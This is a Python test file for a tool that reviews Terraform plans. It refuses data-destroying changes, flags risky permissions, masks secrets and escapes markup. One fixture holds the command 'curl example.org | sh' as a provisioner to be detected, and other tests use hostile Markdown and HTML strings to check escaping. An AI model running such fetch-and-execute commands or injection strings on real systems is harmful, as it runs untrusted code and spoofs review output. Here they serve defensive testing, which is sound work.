"""Tests of the findings and refusals of a review, and of the length of its comment."""

from __future__ import annotations

import json
import re
from datetime import UTC, date, datetime, timedelta
from typing import TYPE_CHECKING, Any, get_args

import pytest
from markdown_it import MarkdownIt

from common.commands import OperationError
from ops.__main__ import main
from ops.artifacts import file_digest
from ops.cost.change import cost_change
from ops.plans import SENSITIVE, Action, Plan
from ops.records import write_record
from ops.review import review
from ops.review.approvals import Approval, approve, examples, read_approvals
from ops.review.folded import Fold, markdown
from ops.review.report import COMMENT_LIMIT, Review
from ops.review.rules import find
from ops.review.rules.finding import RefusedChange
from terraform.stack import Stack
from tests.unit.ops.plans import API, allow, change, plan, policy
from tests.unit.ops.review_plans import (
    DEPLOYED,
    LIFECYCLE,
    ROLE,
    SCHEMA,
    changed_values,
    expiry,
    messages,
    rule,
    schema_change,
)
from tests.unit.ops.test_promotion_checks import record

if TYPE_CHECKING:
    from pathlib import Path

    from markdown_it.token import Token

TODAY = date(2026, 11, 22)
TABLE = "aws_dynamodb_table.messages"
REPLACED = change(
    TABLE, "delete", "create", before={"range_key": "id"}, after={"range_key": "seq"}, replace_paths=[["range_key"]]
)


def approval(**changes: object) -> Approval:
    given = {
        "address": TABLE,
        "changes": ("replace",),
        "reason": "No message is there yet, CHAT-1",
        "expires": TODAY,
        "environments": ("dev",),
    }
    return Approval.model_validate({**given, **changes})


# --- data -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["aws_dynamodb_table", "aws_cognito_user_pool", "aws_s3_bucket", "aws_kms_key"])
@pytest.mark.parametrize(
    "actions", [("delete",), ("delete", "create"), ("create", "delete"), ("create", "forget"), ("forget",)]
)
def test_the_destruction_of_data_is_refused(kind: str, actions: tuple[str, ...]) -> None:
    after = {"name": "x"} if "create" in actions else None

    found = find(plan(change(f"{kind}.it", *actions, before={"name": "x"}, after=after)))

    assert [(finding.kind, finding.blocks) for finding in found] == [("data loss", True)]


def test_a_refusal_names_the_resource_the_data_and_the_cause() -> None:
    assert messages(plan(REPLACED)) == [
        f"{TABLE} would be replaced, with the rows of the table, because of a change of `range_key`"
    ]


@pytest.mark.parametrize("actions", [("create",), ("update",)])
def test_new_and_changed_tables_are_not_refused(actions: tuple[str, ...]) -> None:
    before = None if actions == ("create",) else {"name": "x", "tags": {}}

    assert find(plan(change(TABLE, *actions, before=before, after={"name": "x", "tags": {"a": "b"}}))) == []


@pytest.mark.parametrize("actions", [("update", "delete"), ("open",), ()])
def test_a_plan_with_unknown_actions_is_refused(actions: tuple[str, ...]) -> None:
    document = plan(change(TABLE, *actions, before={"name": "x"}, after={"name": "y"})).json

    with pytest.raises(OperationError, match=rf"{re.escape(TABLE)}: the planned actions .* are not known"):
        Plan.parse(document, "plan.json")


def test_losing_the_deletion_protection_is_refused() -> None:
    of = plan(
        change(
            TABLE,
            "update",
            before={"deletion_protection_enabled": True},
            after={"deletion_protection_enabled": False},
        )
    )

    assert [finding.blocks for finding in find(of)] == [True]


def test_an_approval_lets_its_own_resource_go() -> None:
    found = approve(find(plan(REPLACED)), [approval()], environment="dev", today=TODAY)

    assert [(finding.blocks, finding.approval_reason) for finding in found] == [
        (False, "No message is there yet, CHAT-1")
    ]


@pytest.mark.parametrize(
    "wrong",
    [
        {"expires": date(2026, 11, 21)},
        {"environments": ("staging",)},
        {"address": "aws_dynamodb_table.rooms"},
        {"changes": ("destroy", "forget", "point_in_time_recovery", "recovery_period_in_days", "deletion_protection")},
    ],
)
def test_an_approval_for_another_time_environment_resource_or_change_is_ignored(wrong: dict[str, Any]) -> None:
    found = approve(find(plan(REPLACED)), [approval(**wrong)], environment="dev", today=TODAY)

    assert [finding.blocks for finding in found] == [True]


def entry(*lines: str) -> str:
    return "\n".join(("[[approval]]", 'address = "x.y"', 'environments = ["dev"]', *lines))


@pytest.mark.parametrize(
    ("text", "names"),
    [
        (entry('changes = ["destroy"]', 'reason = "short"', "expires = 2026-12-01"), "reason"),
        (entry('changes = ["destroy"]', 'reason = "No message is there yet"'), "expires"),
        (entry('reason = "No message is there yet"', "expires = 2026-12-01"), "changes"),
        (entry("changes = []", 'reason = "No message is there yet"', "expires = 2026-12-01"), "changes"),
        (entry('changes = ["everything"]', 'reason = "No message is there yet"'), "'replace'"),
        ("[[approval]", "it is not TOML"),
        ('[[aproval]]\naddress = "x.y"', "aproval"),
    ],
)
def test_an_invalid_waiver_file_is_an_error_that_names_the_entry(tmp_path: Path, text: str, names: str) -> None:
    file = tmp_path / "approvals.toml"
    file.write_text(text)

    with pytest.raises(OperationError, match=names):
        read_approvals(file)


def write_approval(file: Path, reason: str, expires: date) -> Path:
    file.write_text(entry('changes = ["destroy"]', f'reason = "{reason}"', f"expires = {expires}"))
    return file


@pytest.mark.parametrize(
    "reason",
    [" " * 15, "." * 40, "a" * 40, "aaaa bbbb cccc dddd eeee", "okay okay okay okay", "CHAT-123 CHAT-124 12345"],
)
def test_a_reason_without_words_is_rejected(tmp_path: Path, reason: str) -> None:
    file = write_approval(tmp_path / "approvals.toml", reason, datetime.now(UTC).date())

    with pytest.raises(OperationError, match=r"approval\.0\.reason: .*at least (4 different words|15 characters)"):
        read_approvals(file)


@pytest.mark.parametrize("reason", ["Nobody has written there, CHAT-1", "このテーブルにはまだメッセージがありません"])
def test_a_reason_in_words_is_accepted(tmp_path: Path, reason: str) -> None:
    (read,) = read_approvals(write_approval(tmp_path / "approvals.toml", reason, datetime.now(UTC).date()))

    assert read.reason == reason


def test_the_last_day_of_an_approval_is_at_most_90_days_ahead(tmp_path: Path) -> None:
    today = datetime.now(UTC).date()
    reason = "No message is there yet"

    assert read_approvals(write_approval(tmp_path / "near.toml", reason, today + timedelta(days=90)))
    with pytest.raises(OperationError, match="more than 90 days ahead"):
        read_approvals(write_approval(tmp_path / "far.toml", reason, today + timedelta(days=91)))


LOSSES = (
    change("aws_dynamodb_table.a", "delete", before={"name": "a"}),
    change("aws_dynamodb_table.b", "delete", "create", before={"name": "b"}, after={"name": "c"}),
    change("aws_dynamodb_table.c", "forget", before={"name": "c"}),
    change(
        "aws_dynamodb_table.d",
        "update",
        before={"deletion_protection_enabled": True, "point_in_time_recovery": [{"enabled": True}]},
        after={"deletion_protection_enabled": False, "point_in_time_recovery": [{"enabled": False}]},
    ),
    change(
        "aws_dynamodb_table.e",
        "update",
        before={"point_in_time_recovery": [{"enabled": True}]},
        after={"point_in_time_recovery": [{"enabled": True, "recovery_period_in_days": 7}]},
    ),
    change("aws_s3_bucket.f", "update", before={"force_destroy": False}, after={"force_destroy": True}),
)
"""Every kind of change that needs an approval."""


def test_the_examples_are_approvals_of_30_days_without_their_reasons(tmp_path: Path) -> None:
    today = datetime.now(UTC).date()
    found = find(plan(*LOSSES))
    lines = "\n".join(examples(found, "dev", today))
    (tmp_path / "copied.toml").write_text(lines)
    (tmp_path / "filled.toml").write_text(lines.replace('reason = ""', 'reason = "No message is there yet"'))

    with pytest.raises(OperationError, match="reason"):
        read_approvals(tmp_path / "copied.toml")
    read = read_approvals(tmp_path / "filled.toml")
    assert {approval.expires for approval in read} == {today + timedelta(days=30)}
    kinds = [kind for approval in read for kind in approval.changes]
    assert sorted(kinds) == sorted(get_args(RefusedChange)), "every kind"
    assert len(read) == len(LOSSES)
    approved = approve(found, read, environment="dev", today=today)
    assert [finding.blocks for finding in approved] == [False] * len(get_args(RefusedChange))


# --- additions --------------------------------------------------------------------------------------

CLIENT = "aws_cognito_user_pool_client.other"


ADDITIONS = (
    change(CLIENT, "create", after={"callback_urls": ["https://other.example.org/"]}),
    change(LIFECYCLE, "create", after=expiry(1)),
)


def test_additions_to_a_deployed_stack_are_findings() -> None:
    assert messages(plan(*ADDITIONS, prior=DEPLOYED)) == [
        f'{CLIENT} is a new client of the user pool: `callback_urls` `["https://other.example.org/"]`',
        f"{LIFECYCLE} rule `all` deletes objects after 1 day, also existing ones",
    ]


def test_additions_of_a_first_plan_are_no_findings() -> None:
    assert messages(plan(*ADDITIONS)) == []


@pytest.mark.parametrize(
    ("kind", "values", "message"),
    [
        (
            "aws_s3_bucket_replication_configuration",
            {"role": "r", "rule": [{"destination": [{"account": "999999999999", "bucket": "arn:aws:s3:::other"}]}]},
            (
                "copies the objects of a bucket to another one: `role` `r`, "
                '`rule` `[{"destination": [{"account": "999999999999", "bucket": "arn:aws:s3:::other"}]}]`'
            ),
        ),
        (
            "aws_cloudwatch_log_subscription_filter",
            {"destination_arn": "arn:aws:logs:r:9:destination:d"},
            "copies logs to another service: `destination_arn` `arn:aws:logs:r:9:destination:d`",
        ),
        (
            "aws_dynamodb_kinesis_streaming_destination",
            {"stream_arn": "arn:aws:kinesis:r:9:stream/s", "table_name": "t"},
            (
                "copies the changes of a table to a Kinesis stream: "
                "`stream_arn` `arn:aws:kinesis:r:9:stream/s`, `table_name` `t`"
            ),
        ),
        (
            "aws_lambda_function_event_invoke_config",
            {"function_name": "f", "destination_config": [{"on_success": [{"destination": "q"}]}]},
            (
                "configures asynchronous invocations: `function_name` `f`, "
                '`destination_config` `[{"on_success": [{"destination": "q"}]}]`'
            ),
        ),
        (
            "aws_appsync_api_cache",
            {"api_caching_behavior": "FULL_REQUEST_CACHING", "ttl": 60},
            (
                "is a new cache: callers may get responses that were made before a change of data: "
                "`api_caching_behavior` `FULL_REQUEST_CACHING`, `ttl` `60`"
            ),
        ),
        (
            "aws_cognito_user_in_group",
            {"group_name": "ADMIN", "username": "someone"},
            "adds a user to a group: `group_name` `ADMIN`, `username` `someone`",
        ),
        ("aws_iam_access_key", {"user": "u", "secret": "s"}, "is a new access key: `user` `u`"),
        ("aws_iam_user", {"name": "u"}, "is a new IAM user: `name` `u`"),
    ],
)
def test_additions_that_copy_data_or_give_access_are_findings_in_each_plan(
    kind: str, values: dict[str, Any], message: str
) -> None:
    entry = change(f"{kind}.it", "create", after=values)

    assert messages(plan(entry, prior=DEPLOYED)) == [f"{kind}.it {message}"]
    assert messages(plan(entry)) == [f"{kind}.it {message}"]


@pytest.mark.parametrize(
    ("kind", "values", "message"),
    [
        (
            "aws_lambda_event_source_mapping",
            {"event_source_arn": "table/stream", "function_name": "f"},
            (
                "passes the records of a stream or queue to a function: "
                "`event_source_arn` `table/stream`, `function_name` `f`"
            ),
        ),
        (
            "aws_cognito_user_pool_domain",
            {"domain": "other"},
            "is a new domain of the hosted sign-in pages: `domain` `other`",
        ),
    ],
)
def test_additions_of_usual_types_are_findings_after_the_first_plan(
    kind: str, values: dict[str, Any], message: str
) -> None:
    entry = change(f"{kind}.it", "create", after=values)

    assert messages(plan(entry, prior=DEPLOYED)) == [f"{kind}.it {message}"]
    assert messages(plan(entry)) == []


@pytest.mark.parametrize(
    ("kind", "before", "after", "message"),
    [
        ("aws_lambda_function", {"role": "a"}, {"role": "b"}, "`role` changes from `a` to `b`"),
        ("aws_lambda_function", {"layers": []}, {"layers": ["arn:other:1"]}, "`layers` adds `arn:other:1`"),
        (
            "aws_cognito_user_pool",
            {"sign_in_policy": [{"allowed_first_auth_factors": ["PASSWORD"]}]},
            {"sign_in_policy": [{"allowed_first_auth_factors": ["PASSWORD", "EMAIL_OTP"]}]},
            "`sign_in_policy.allowed_first_auth_factors` adds `EMAIL_OTP`",
        ),
        (
            "aws_cognito_user_pool_client",
            {"allowed_oauth_flows_user_pool_client": False},
            {"allowed_oauth_flows_user_pool_client": True},
            "`allowed_oauth_flows_user_pool_client` changes from `false` to `true`",
        ),
        ("aws_wafv2_web_acl_association", {"web_acl_arn": "a"}, {"web_acl_arn": "b"}, "`web_acl_arn` changes from"),
        (
            "aws_dynamodb_table",
            {"server_side_encryption": [{"enabled": True, "kms_key_arn": "k"}]},
            {"server_side_encryption": []},
            "`server_side_encryption.kms_key_arn` removes `k`",
        ),
        ("aws_dynamodb_table", {"replica": []}, {"replica": [{"region_name": "x"}]}, "`replica.region_name` adds `x`"),
        (
            "aws_s3_bucket_server_side_encryption_configuration",
            {"rule": [{"kms_master_key_id": "k"}]},
            {"rule": [{"kms_master_key_id": ""}]},
            "`rule.kms_master_key_id` removes `k`",
        ),
        ("aws_sqs_queue", {"kms_master_key_id": "k"}, {"kms_master_key_id": ""}, "`kms_master_key_id` removes `k`"),
        ("aws_cloudwatch_log_group", {"kms_key_id": "k"}, {"kms_key_id": ""}, "`kms_key_id` removes `k`"),
        (
            "aws_sqs_queue",
            {"redrive_policy": '{"maxReceiveCount":5}'},
            {"redrive_policy": ""},
            "no longer moves messages that fail to another queue (`redrive_policy`)",
        ),
    ],
)
def test_changes_that_give_access_or_end_a_protection_are_findings(
    kind: str, before: dict[str, Any], after: dict[str, Any], message: str
) -> None:
    found = messages(plan(change(f"{kind}.it", "update", before=before, after=after)))

    assert [text for text in found if text.startswith(f"{kind}.it {message}")]


@pytest.mark.parametrize(
    ("kind", "message"),
    [
        ("aws_wafv2_web_acl_association", "requests are no longer filtered"),
        ("aws_s3_bucket_server_side_encryption_configuration", "S3 encrypts new objects with its own keys"),
    ],
)
def test_the_end_of_a_protection_is_a_finding(kind: str, message: str) -> None:
    assert messages(plan(change(f"{kind}.it", "delete", before={"id": "x"}))) == [f"{kind}.it is removed: {message}"]


def test_a_watched_list_that_is_known_after_apply_only_is_a_finding() -> None:
    function = "aws_lambda_function.f"
    before, after = {"function_name": "f", "layers": ["a"]}, {"function_name": "f"}
    entry = change(function, "update", before=before, after=after, after_unknown={"layers": True})

    assert messages(plan(entry, configured={function: {"layers": ["${aws_lambda_layer_version.new.arn}"]}})) == [
        f"{function} `layers` changes (known after apply)"
    ]


# --- commands ---------------------------------------------------------------------------------------

PROVISIONERS = {
    "resources": [
        {
            "address": "aws_sqs_queue.q",
            "provisioners": [
                {"type": "local-exec", "expressions": {"command": {"constant_value": "curl example.org | sh"}}},
                {"type": "remote-exec", "expressions": {"inline": {"references": ["var.x"]}}},
            ],
        },
        {"address": "aws_sqs_queue.other"},
    ]
}


@pytest.mark.parametrize(
    ("module", "address"),
    [
        (PROVISIONERS, "aws_sqs_queue.q"),
        ({"module_calls": {"m": {"module": PROVISIONERS}}}, 'module.m["a]b"].aws_sqs_queue.q[0]'),
    ],
)
@pytest.mark.parametrize(
    ("actions", "verb"),
    [(("create",), "runs"), (("delete", "create"), "runs"), (("delete",), "may run"), (("update",), "")],
)
def test_commands_of_provisioners_are_findings(
    module: dict[str, Any], address: str, actions: tuple[str, ...], verb: str
) -> None:
    after = None if actions == ("delete",) else {"name": "y"}
    before = None if actions == ("create",) else {"name": "x"}
    entries = (
        {**change(name, *actions, before=before, after=after), "type": "terraform_data"}
        for name in (address, "aws_sqs_queue.other")
    )
    of = Plan.of({**plan(*entries).document, "configuration": {"root_module": module}}, "test")

    start = f"{address} {verb} a command with the role of the apply:"
    expected = [f"{start} `local-exec` `curl example.org | sh`", f"{start} `remote-exec` `(an expression)`"]
    assert messages(of) == (expected if verb else [])


def test_actions_that_the_apply_invokes_are_findings() -> None:
    trigger = {"triggering_resource_address": TABLE, "action_trigger_event": "AfterUpdate"}
    invocations = [
        {"address": "action.aws_lambda_invoke.a", "type": "aws_lambda_invoke", "lifecycle_action_trigger": trigger},
        {"address": "action.aws_lambda_invoke.b", "type": "aws_lambda_invoke", "invoke_action_trigger": {}},
    ]
    of = Plan.of({**plan().document, "action_invocations": invocations}, "test")

    text = "is an action that the apply invokes with its role"
    assert messages(of) == [
        f"action.aws_lambda_invoke.a {text}, by `{TABLE}` (`AfterUpdate`)",
        f"action.aws_lambda_invoke.b {text}",
    ]


# --- schema -----------------------------------------------------------------------------------------


def test_breaking_and_dangerous_schema_changes_are_distinguished() -> None:
    before = "enum Kind { A } type Query { a: String b: Kind }"
    after = "enum Kind { A B } type Query { b: Kind c: String }"

    assert messages(schema_change(before, after)) == [
        f"{API} breaks clients: Query.a was removed.",
        f"{API} may break clients: B was added to enum type Kind.",
    ]


def test_an_added_field_is_not_a_breaking_change() -> None:
    assert messages(schema_change(SCHEMA, SCHEMA.replace("me: User", "me: User you: AWSDateTime"))) == []


# --- the report -------------------------------------------------------------------------------------


def test_a_long_report_is_truncated_with_a_notice_at_its_beginning_and_keeps_refusals() -> None:
    additions = [change(f"aws_dynamodb_table.t{number:05}", "create", after={}) for number in range(8_000)]
    of = plan(REPLACED, *additions)

    reviewed = Review("dev", of, find(of), cost_change(of))
    text = reviewed.markdown()

    assert len(text) <= COMMENT_LIMIT
    assert f"`{TABLE}` would be replaced" in text
    assert "[[approval]]" in text
    notice = "> **This review is incomplete:** 1 block of details (8000 x aws_dynamodb_table) does not fit. "
    assert text.splitlines()[2].startswith(notice)
    assert "t07999" not in text
    assert "t07999" in reviewed.text()
    assert "t07999" in reviewed.summary()


def test_a_long_notice_of_a_cut_fits_in_the_limit() -> None:
    folds = [Fold(f"{'x' * 38}{number:02}", ("y" * 5_000,)) for number in range(12)]
    lines: list[str | Fold] = [*(f"- line {number:04}" for number in range(500)), *folds]
    remedy = "Complete review: the summary of the workflow run, or a command with several options and file names."

    for limit in (1_000, 2_000, 3_333):
        text = markdown("## Plan", lines, limit, len, remedy)
        assert limit - 100 < len(text) <= limit
        assert f"12 blocks of details ({'x' * 38}00; " in text
        assert "and 7 more" in text
        assert "lines at the end" in text


def test_visible_lines_that_do_not_fit_are_counted_in_the_notice() -> None:
    of = plan(*(change(f"a.b{number:03}", "update", before={"x": number}, after={"x": -1}) for number in range(60)))
    reviewed = Review("dev", of, find(of), cost_change(of))

    text = reviewed.markdown(limit=1_500)

    assert len(text) <= 1_500 < len(reviewed.markdown())
    assert text.startswith("## Plan for dev: may be applied\n\n> **This review is incomplete:** ")
    assert "lines at the end do not fit. " in text
    assert "b000" in text
    assert "b059" not in text


def test_a_report_shows_actions_attributes_and_renames() -> None:
    of = plan(
        change("a.changed", "update", before={"x": 1, "y": 1}, after={"x": 2, "y": 1}),
        change("a.renamed", "no-op", before={"x": 1}, after={"x": 1}, previous_address="a.old"),
        change("a.taken", "no-op", before={"x": 1}, after={"x": 1}, importing={"id": "1"}),
        change("a.same", "no-op", before={"x": 1}, after={"x": 1}),
    )

    assert {one.address: one.action for one in of.changes} == {
        "a.changed": Action.CHANGE,
        "a.renamed": Action.MOVE,
        "a.taken": Action.IMPORT,
    }
    text = Review("dev", of, [], cost_change(of)).markdown()
    assert "- `a.renamed` is renamed, was `a.old`" in text
    assert "- `a.taken` is imported" in text
    assert "- `a.changed` changes:\n  - `x`: `1` → `2`\n" in text
    assert "`y`" not in text


def test_sensitive_values_are_not_in_a_review() -> None:
    of = plan(
        change(
            "a.b",
            "update",
            before={"key": "old"},
            after={"key": "new"},
            before_sensitive={"key": True},
            after_sensitive={"key": True},
        )
    )

    assert of.changes[0].after == {"key": SENSITIVE}


def test_a_sensitive_text_is_masked_in_other_values_too() -> None:
    secret = {"client_secret": "the-secret-value"}
    of = plan(
        change(
            "aws_cognito_identity_provider.oidc",
            "update",
            before={"provider_details": {"oidc_issuer": "https://a.example"}},
            after={"provider_details": {"oidc_issuer": "https://b.example/?the-secret-value", **secret}},
        ),
        change("a.b", "update", before={"json": "{}"}, after={"json": json.dumps({"x": "the-secret-value"})}),
    )

    reviewed = review(of, (), "dev")

    for text in (reviewed.markdown(), reviewed.text(), json.dumps(reviewed.document())):
        assert "the-secret-value" not in text
        assert "https://b.example/?(sensitive)" in text


def test_equal_changes_of_several_resources_are_listed_once() -> None:
    of = plan(*(change(f"a.b{number}", "update", before={"x": 1}, after={"x": 2, "y": number}) for number in range(5)))

    text = review(of, (), "dev").markdown()

    assert "- `a.b0`, `a.b1`, `a.b2` and 2 more resources change:\n  - `x`: `1` → `2`\n" in text
    assert "- `a.b4` changes:\n  - `y`: adds `4`\n" in text
    assert text.count("`x`") == 1


OUTPUTS = {
    "api_id": {"actions": ["update"], "before": "a", "after": None, "after_unknown": True},
    "bucket": {"actions": ["create"], "before": None, "after": "chat-files"},
    "key": {
        "actions": ["update"],
        "before": "old-secret",
        "after": "new-secret",
        "before_sensitive": True,
        "after_sensitive": True,
    },
    "link": {"actions": ["update"], "before": "https://a.example", "after": "https://b.example/?new-secret"},
    "region": {"actions": ["no-op"], "before": "x", "after": "x"},
    "unused": {"actions": ["delete"], "before": ["x"], "after": None},
}


def test_changed_outputs_are_shown_with_their_values_unless_they_are_sensitive() -> None:
    of = Plan.of({**plan().document, "output_changes": OUTPUTS}, "test")

    reviewed = review(of, (), "dev")

    text = reviewed.markdown()
    assert visible(text).endswith(
        "### Outputs\n\n"
        "- `api_id`: `a` → `(known after apply)`\n"
        "- `key`: `(sensitive)` → `(another sensitive value)`\n"
        "- `link`: `https://a.example` → `https://b.example/?(sensitive)`\n"
        '- `unused`: removes `["x"]`\n'
    )
    assert "<summary>1 new output</summary>\n\n- `bucket`: `chat-files`\n" in text
    for shown in (text, json.dumps(reviewed.document())):
        assert "new-secret" not in shown
        assert "old-secret" not in shown


def test_another_order_of_named_blocks_is_shown() -> None:
    blocks = [{"name": "a", "priority": 1}, {"name": "b", "priority": 2}]
    of = plan(change("x.y", "update", before={"block": blocks}, after={"block": blocks[::-1]}))

    assert changed_values(of) == ["order of block: a, b -> b, a"]


def test_long_values_are_diffs_and_json_is_formatted() -> None:
    before, after = (policy(allow("a:B", "r", Sid="x" * 200), allow(action, "r")) for action in ("a:C", "a:D"))
    of = plan(change(ROLE, "update", before={"policy": before}, after={"policy": after}))

    text = review(of, (), "dev").markdown()

    assert "`policy`: 1 line removed, 1 line added, see the diff below" in text
    assert '\n-      "Action": "a:C",\n+      "Action": "a:D",\n' in text


def test_permissions_are_listed_by_role_and_new_roles_by_service() -> None:
    trust = policy(allow("sts:AssumeRole", Principal={"Service": "lambda.amazonaws.com"}))
    write = policy(allow(["s3:PutObject", "s3:GetObject", "sqs:SendMessage"], "r"), allow("xray:PutSegments", "*"))
    names = ("one", "two")
    roles = (
        change(f"aws_iam_role.{name}", "create", after={"name": name, "assume_role_policy": trust}) for name in names
    )
    policies = (
        change(f"aws_iam_role_policy.{name}", "create", after={"role": name, "policy": write}) for name in names
    )

    text = review(plan(*roles, *policies), (), "dev").markdown()

    both = "- `aws_iam_role.one`, `aws_iam_role.two`"
    assert f"{both} (new, for `lambda.amazonaws.com`) may call s3 (2), sqs (1).\n" in text
    assert f"{both} wildcard, on `*`: may `xray:PutSegments`.\n" in text
    assert text.count("`s3:PutObject`") == 2, "in the folded details of each role"


def visible(text: str) -> str:
    """Return a review without its folded details."""
    return re.sub(r"\n<details>.*?</details>\n", "", text, flags=re.DOTALL)


NEW_ROLE = "aws_iam_role.one"
ACCOUNT = {"AWS": "arn:aws:iam::999999999999:root"}
LAMBDA = {"Service": "lambda.amazonaws.com"}


@pytest.mark.parametrize(
    ("statement", "shown"),
    [
        (allow("*", "arn:aws:s3:::b"), "wildcard, on `arn:aws:s3:::b`: may `*`"),
        (allow("s3:Get*", "arn:aws:s3:::b/rooms/*"), "wildcard, on `arn:aws:s3:::b/rooms/*`: may `s3:Get*`"),
        (allow("DynamoDB:PutItem", "*"), "wildcard, on `*`: may `DynamoDB:PutItem`"),
        (
            allow("dynamodb:PutItem", "arn:aws:dynamodb:r:1:table/*"),
            "wildcard, on `arn:aws:dynamodb:r:1:table/*`: may `dynamodb:PutItem`",
        ),
        (allow("s3:GetObject", "arn:aws:s3:::*"), "wildcard, on `arn:aws:s3:::*`: may `s3:GetObject`"),
        (allow("iam:PassRole", "arn:aws:iam::1:role/x"), "on `arn:aws:iam::1:role/x`: may `iam:PassRole`"),
        (allow("STS:AssumeRole", "arn:aws:iam::9:role/x"), "on `arn:aws:iam::9:role/x`: may `STS:AssumeRole`"),
        (
            allow("organizations:MoveAccount", "arn:aws:organizations::1:account/o/9"),
            "on `arn:aws:organizations::1:account/o/9`: may `organizations:MoveAccount`",
        ),
        (
            {"Effect": "Allow", "NotAction": "iam:*", "Resource": "r"},
            'wildcard, on `r`: may `all actions except "iam:*"`',
        ),
        (
            {"Effect": "Allow", "Action": "s3:GetObject", "NotResource": "r"},
            'wildcard, on `all resources except "r"`: may `s3:GetObject`',
        ),
    ],
)
def test_wide_permissions_of_a_new_role_are_visible(statement: dict[str, Any], shown: str) -> None:
    trust = policy(allow("sts:AssumeRole", Principal=LAMBDA))
    usual = allow(
        "SQS:SendMessage", ["${aws_sqs_queue.q.arn}", "${aws_sqs_queue.r.arn}:*", "arn:aws:sqs:r:1:queue/it/*"]
    )
    of = plan(
        change(NEW_ROLE, "create", after={"name": "one", "assume_role_policy": trust}),
        change("aws_iam_role_policy.one", "create", after={"role": "one", "policy": policy(usual, statement)}),
    )

    text = visible(review(of, (), "dev").markdown())

    assert f"- `{NEW_ROLE}` {shown}.\n" in text
    assert f"- `{NEW_ROLE}` (new, for `lambda.amazonaws.com`) may call sqs (3).\n" in text


@pytest.mark.parametrize(
    ("principal", "shown"),
    [
        (ACCOUNT, "`AWS arn:aws:iam::999999999999:root` may `sts:AssumeRole`"),
        ({"Federated": "accounts.example.com"}, "`Federated accounts.example.com` may `sts:AssumeRole`"),
        ("*", "public: `*` may `sts:AssumeRole`"),
        ({"Service": "*"}, "public: `Service *` may `sts:AssumeRole`"),
    ],
)
def test_other_principals_and_attached_policies_of_a_new_role_are_visible(principal: object, shown: str) -> None:
    trust = policy(allow("sts:AssumeRole", Principal=LAMBDA), allow("sts:AssumeRole", Principal=principal))
    administrator = "arn:aws:iam::aws:policy/AdministratorAccess"
    inline = [{"name": "x", "policy": policy(allow("kms:*", "*"))}]
    role = {"name": "one", "assume_role_policy": trust, "managed_policy_arns": ["arn:other"], "inline_policy": inline}
    of = plan(
        change(NEW_ROLE, "create", after=role),
        change("aws_iam_role_policy_attachment.a", "create", after={"role": "one", "policy_arn": administrator}),
    )

    text = visible(review(of, (), "dev").markdown())

    for message in (shown, f"attaches `{administrator}`", "attaches `arn:other`", "wildcard, on `*`: may `kms:*`"):
        assert f"- `{NEW_ROLE}` {message}.\n" in text


def test_a_long_list_of_actions_keeps_its_resource_and_warning_and_is_complete_below() -> None:
    actions = [f"s3:ActionWithAnExtremelyLongName{number:02}" for number in range(25)]
    bucket = "aws_s3_bucket_policy.attachments"
    wide = policy(allow(actions, "arn:aws:s3:::attachments/*", Principal="*"))
    of = plan(change(bucket, "create", after={"policy": wide}), prior=DEPLOYED)

    reviewed = review(of, (), "dev")

    line = (
        f"- `{bucket}` public, wildcard, on `arn:aws:s3:::attachments/*`: `*` may `s3:ActionWithAnExtremelyLongName00`"
    )
    assert line in visible(reviewed.markdown())
    assert "(complete below)" in visible(reviewed.markdown())
    assert "`s3:ActionWithAnExtremelyLongName24`.\n" in reviewed.markdown()
    assert "`s3:ActionWithAnExtremelyLongName24`.\n" in reviewed.text()


def test_a_long_value_of_a_new_client_is_complete_below() -> None:
    urls = [f"https://{number:02}.example.org/a-rather-long-path-of-a-web-client" for number in range(20)]
    of = plan(change(CLIENT, "create", after={"callback_urls": urls}), prior=DEPLOYED)

    text = review(of, (), "dev").markdown()

    assert urls[-1] not in visible(text)
    assert urls[-1] in text


def test_markup_in_a_plan_is_escaped_in_a_review() -> None:
    hostile = "` `` <img src=x> @someone | [a](https://example.com) \u202e\n# title"
    values = {"visibility": hostile, "xray_enabled": hostile.partition("\n")[0]}
    of = plan(change(API, "update", before={"visibility": "<b>", "xray_enabled": "x"}, after=values))
    approved = approve(
        find(plan(REPLACED)), [approval(reason=f"four different words {hostile}")], environment="dev", today=TODAY
    )

    text = Review("dev", of, [*find(of), *approved], cost_change(of)).markdown()

    outside = [token for token in inline_tokens(text) if token.type not in {"code_inline", "softbreak"}]
    assert {token.type for token in outside} <= {"text", "strong_open", "strong_close"}
    assert "@someone" not in "".join(token.content for token in outside)
    assert "\u202e" not in text


def test_line_breaks_in_a_name_begin_no_markdown() -> None:
    hostile = "x\n\n</summary>\n\n# Nothing to see @team\n"
    rules = [rule(id=name, expiration=[{"days": days}]) for name, days in ((hostile, 1), ("b", 2))]
    before = {"rule": [{**one, "filter": [{"prefix": "y" * 200}]} for one in rules]}
    of = plan(change(LIFECYCLE, "update", before=before, after={"rule": rules}))

    reviewed = review(of, (), "dev")

    summaries = [line for line in reviewed.markdown().splitlines() if line.startswith("<summary>")]
    assert any("# Nothing to see" in line for line in summaries)
    assert all(line.endswith("</summary>") for line in summaries)
    for text in (reviewed.markdown(), reviewed.markdown(limit=1_200), reviewed.text()):
        assert not [line for line in text.splitlines() if line.startswith(("# ", "</summary>"))]


def test_a_long_line_is_complete_once() -> None:
    urls = [f"https://{number:02}.example.org/a-rather-long-path-of-a-web-client" for number in range(20)]
    of = plan(change(CLIENT, "create", after={"callback_urls": urls}), prior=DEPLOYED)

    complete = review(of, (), "dev").text().partition("--- Complete text of long lines")[2].partition("###")[0]

    assert complete.count(urls[-1]) == 1


def inline_tokens(text: str) -> list[Token]:
    """Return the parts of texts in Markdown: words, code spans, links, HTML."""
    return [child for token in MarkdownIt().parse(text) for child in token.children or () if token.type == "inline"]


@pytest.mark.parametrize(("entry", "code"), [(REPLACED, 1), (change(TABLE, "create", after={}), 0)])
def test_the_command_exits_with_1_if_it_refuses(tmp_path: Path, entry: dict[str, Any], code: int) -> None:
    file, output = tmp_path / "plan.json", tmp_path / "review.json"
    file.write_bytes(plan(entry).json)
    stack = tmp_path / "chat-staging" / "cdk.tf.json"
    stack.parent.mkdir()
    stack.write_text("{}")
    digests = {"json_sha256": file_digest(file), "stack_sha256": Stack(stack.parent, "staging").digest()}
    write_record(record(**digests), tmp_path / "record.json")
    arguments = ["--plan-json", str(file), "--record", str(tmp_path / "record.json"), "--stacks", str(tmp_path)]

    assert main(["review", *arguments, "--format", "json", "--output", str(output)]) == code
    assert json.loads(output.read_text())["refused"] is bool(code)


@pytest.mark.parametrize(("before", "refused"), [(False, True), (None, False)])
def test_a_bucket_that_can_be_deleted_with_its_objects_is_refused_unless_it_is_imported(
